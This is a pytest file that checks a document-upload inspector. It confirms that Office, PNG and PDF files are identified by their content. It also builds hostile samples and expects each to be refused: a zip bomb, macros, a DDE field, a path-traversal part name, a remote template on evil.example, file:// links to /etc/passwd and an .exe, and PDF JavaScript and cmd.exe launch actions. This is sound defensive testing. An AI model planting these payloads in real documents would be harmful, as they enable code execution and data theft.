"""What may come in, told by its content; each hostile file is refused for its own reason."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from tests.governance.documents import papers
from wuxing.governance.documents.files import inspection, reading

WORD, EXCEL = papers.word(), papers.excel([["编号", 1]])
RELATIONS = papers.part_of(WORD, "word/_rels/document.xml.rels")
BODY = papers.part_of(WORD, "word/document.xml")
FIELD = b'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x"/></w:p>'
LINK = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)


def linked(kind: bytes, target: bytes) -> bytes:
    changed = RELATIONS.replace(b"</Relationships>", LINK % (kind, target))
    return papers.with_part(WORD, "word/_rels/document.xml.rels", changed, replace=True)


def bomb() -> bytes:
    out = BytesIO()
    with ZipFile(BytesIO(WORD)) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(part.filename, old.read(part.filename))
        new.writestr("word/media/zeros.png", bytes(40 << 20))
    return out.getvalue()


def text_zip() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w") as new:
        new.writestr("readme.txt", "x")
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (WORD, inspection.DOCX),
        (EXCEL, inspection.XLSX),
        (papers.PNG, "image/png"),
        (papers.pdf(), inspection.PDF),
        (linked(b"hyperlink", b"https://std.samr.gov.cn/"), inspection.DOCX),
    ],
)
def test_files_are_told_by_their_content(data: bytes, kind: str) -> None:
    assert reading.kind_of(data) == kind


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"<html>", "send a Word"),
        (b"MZ" + bytes(60), "send a Word"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "old or password-protected"),
        (WORD[: len(WORD) // 2], "damaged"),
        (text_zip(), "ZIP archive"),
        (bomb(), "archive bomb"),
        (papers.with_part(WORD, "word/vbaProject.bin", b"x"), "macros"),
        (papers.with_part(WORD, "word/embeddings/oleObject1.bin", b"x"), "embedded object"),
        (papers.with_part(WORD, "../../etc/passwd", b"x"), "damaged"),
        (papers.with_part(WORD, "customXml/item9.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "XML"),
        (linked(b"attachedTemplate", b"https://evil.example/t.dotm"), "attachedTemplate"),
        (linked(b"image", b"file:///etc/passwd"), "image"),
        (linked(b"hyperlink", b"file:///c:/x.exe"), "hyperlink"),
        (
            papers.with_part(
                WORD, "word/document.xml", BODY.replace(b"<w:body>", b'<w:body>' + FIELD),
                replace=True,
            ),
            "DDE",
        ),
        (
            papers.with_part(
                WORD, "[Content_Types].xml",
                papers.part_of(WORD, "[Content_Types].xml").replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                ),
                replace=True,
            ),
            "macros",
        ),
        (papers.pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "scripts"),
        (papers.pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"), "scripts"),
        (papers.pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "scripts"),
        (papers.pdf()[:20], "damaged"),
    ],
)  # fmt: skip
def test_hostile_files_are_refused_with_the_reason(data: bytes, reason: str) -> None:
    with pytest.raises(inspection.Refused, match=reason):
        reading.kind_of(data)
